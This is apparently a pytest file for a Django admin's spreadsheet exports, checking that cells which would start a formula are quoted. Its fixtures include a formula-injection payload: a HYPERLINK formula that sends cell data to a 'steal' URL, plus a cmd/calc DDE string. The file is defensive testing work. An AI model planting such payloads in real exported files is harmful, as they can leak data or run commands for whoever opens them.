"""Spreadsheet exports cannot run a formula: a cell that would start one begins with a quote."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
import tablib
from django.conf import settings
from django.urls import reverse

from conditions.admin import EvidenceResource
from conditions.models import Evidence
from conditions.spreadsheets import escape_formula, unescape_formula
from tests.factories import EvidenceFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://example.org/steal?d="&A1,"Brockbank 2005")'


def exported(client, model: str, format_label: str) -> bytes:
    """The file the admin export page returns for ``model`` in the format ``format_label``."""
    url = reverse(f"admin:conditions_{model}_export")
    form = client.get(url).context["form"]
    data = {name: "on" for name, field in form.fields.items() if hasattr(field, "resource_name")}
    data["format"] = next(v for v, label in form.fields["format"].choices if label == format_label)
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    assert "attachment" in response["Content-Disposition"]
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-0.5", "-0.5"),
        ("+3", "+3"),
        ("1e-3", "1e-3"),
        ("Brockbank 2005: 48%", "Brockbank 2005: 48%"),
        ("", ""),
        (0.35, 0.35),
        (-0.5, -0.5),
        (None, None),
    ],
)
def test_a_cell_that_would_start_a_formula_is_quoted_and_a_number_is_not(cell, written):
    assert escape_formula(cell) == written
    assert unescape_formula(written) == cell


def test_a_quote_the_curator_wrote_is_kept_on_import():
    assert unescape_formula("'tis the season") == "'tis the season"
    assert unescape_formula("'-0.5") == "'-0.5"


def test_the_csv_export_quotes_a_note_starting_a_formula(admin_client):
    EvidenceFactory(note=HYPERLINK, probability=0.48)

    rows = list(csv.DictReader(io.StringIO(exported(admin_client, "evidence", "csv").decode())))

    assert rows[0]["note"] == "'" + HYPERLINK
    assert rows[0]["probability"] == "0.48"


def test_the_tsv_and_html_exports_quote_it_too(admin_client):
    EvidenceFactory(note=HYPERLINK)

    tsv = exported(admin_client, "evidence", "tsv").decode()
    rows = list(csv.DictReader(io.StringIO(tsv), dialect="excel-tab"))
    assert rows[0]["note"] == "'" + HYPERLINK
    assert "<td>'=HYPERLINK(" in exported(admin_client, "evidence", "html").decode()


def test_the_xlsx_export_writes_the_note_as_text_and_the_figure_as_a_number(admin_client):
    # Curators work in spreadsheets: XLSX is offered (openpyxl is a runtime requirement).
    EvidenceFactory(note=HYPERLINK, probability=0.48)

    sheet = openpyxl.load_workbook(io.BytesIO(exported(admin_client, "evidence", "xlsx"))).active
    header = [cell.value for cell in sheet[1]]
    note = sheet.cell(row=2, column=header.index("note") + 1)
    probability = sheet.cell(row=2, column=header.index("probability") + 1)

    assert note.data_type == "s"
    assert note.value == "'" + HYPERLINK
    assert probability.data_type == "n"
    assert probability.value == 0.48


def test_the_library_setting_that_deletes_the_equals_sign_is_not_turned_on():
    # IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT would also turn every XLSX number into text.
    assert getattr(settings, "IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT", False) is False


def test_an_exported_file_imports_back_unchanged(db):
    evidence = EvidenceFactory(note=HYPERLINK)
    exported_csv = EvidenceResource().export().csv
    assert "'" + HYPERLINK.replace('"', '""') in exported_csv

    result = EvidenceResource().import_data(
        tablib.Dataset().load(exported_csv, format="csv"), dry_run=False
    )

    assert not result.problems
    assert result.unchanged == 1
    assert Evidence.objects.get(pk=evidence.pk).note == HYPERLINK
